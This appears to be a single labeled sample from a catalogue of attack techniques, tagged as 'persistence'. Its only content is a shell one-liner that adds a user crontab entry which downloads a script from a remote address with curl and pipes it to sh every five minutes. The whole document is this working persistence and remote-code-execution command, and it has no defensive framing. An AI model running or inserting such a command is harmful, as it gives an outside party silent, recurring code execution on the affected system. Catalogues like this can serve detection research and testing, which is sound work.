# description: Adds a user crontab entry that downloads and runs a script every five minutes.
# family: persistence
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsS http://203.0.113.20/u.sh | sh") | crontab -
